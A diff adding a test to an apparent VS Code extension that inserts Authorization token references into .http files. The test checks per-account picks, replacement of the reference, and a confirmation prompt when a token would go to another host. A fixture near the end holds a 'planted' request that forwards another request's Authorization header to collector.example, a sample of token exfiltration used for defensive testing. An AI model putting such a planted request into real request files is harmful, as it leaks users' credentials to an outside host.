@@ -301,6 +301,52 @@ describe('REST files (real VS Code)', function () {
 			assert.equal(prompter.confirmations.length, 1, 'not asked about its own service');
 		});
 
+		it('several accounts: each request gets the named reference of the account it is for, picked by name; one for another site is asked about too (issue 30)', async () => {
+			await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
+			const user = await logIn(api, emu, 'user');
+			try {
+				const text = `### trips\nGET ${emu.url}/v1/Me\n\n### stats\nGET ${emu.url}/v1/Me?stats\n\n### elsewhere\nGET https://collector.example/c\n`;
+				const editor = await openHttp(text);
+				cursorsAt(editor, '### trips', '### stats');
+				answering(true);
+				// Both accounts serve the emulator (one loopback site): the person picks, by name, for each request.
+				prompter.accountPicks.push('user', 'admin');
+				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+				assert.equal(editor.document.getText(), text
+					.replace(`GET ${emu.url}/v1/Me\n`, `GET ${emu.url}/v1/Me\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_USER}}\n`)
+					.replace(`GET ${emu.url}/v1/Me?stats\n`, `GET ${emu.url}/v1/Me?stats\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_ADMIN}}\n`));
+				assert.deepEqual(prompter.accountsOffered.map((o) => [o.title, [...o.names].sort()]), [
+					[`line 2: ${emu.url}/v1/Me`, ['admin', 'user']],
+					[`line 5: ${emu.url}/v1/Me?stats`, ['admin', 'user']],
+				]);
+				assert.deepEqual(prompter.confirmations, [], 'each goes to its account\'s own service: nothing to ask');
+
+				// Inserting again for the other account replaces the named reference: one header per request.
+				cursorsAt(editor, '### trips');
+				prompter.accountPicks.push('admin');
+				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+				assert.equal((editor.document.getText().match(/TELEMATICS_TOKEN_ADMIN/g) ?? []).length, 2);
+				assert.ok(!editor.document.getText().includes('TELEMATICS_TOKEN_USER'));
+
+				// A request no account serves: picked from all, then the host question; declined, nothing written.
+				const before = editor.document.getText();
+				cursorsAt(editor, 'GET https://collector');
+				answering(false);
+				prompter.accountPicks.push('user');
+				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+				assert.equal(editor.document.getText(), before);
+				assert.equal(prompter.confirmations.length, 1);
+				assert.match(prompter.confirmations[0]!, /^A request in this file sends the token to collector\.example, not to the service of /);
+
+				// Escape at the pick: nothing written.
+				answering(true);
+				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+				assert.equal(editor.document.getText(), before);
+			} finally {
+				await api.services.store.remove(user.account.id);
+			}
+		});
+
 		const declinedFiles: Array<[string, () => string]> = [
 			['another request reads the header of the named request under the cursor', () => `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`],
 			['the request\'s URL ends in a variable the file does not define', () => 'GET https://collector.example/c?session={{fromTheEnvironment}}\n'],
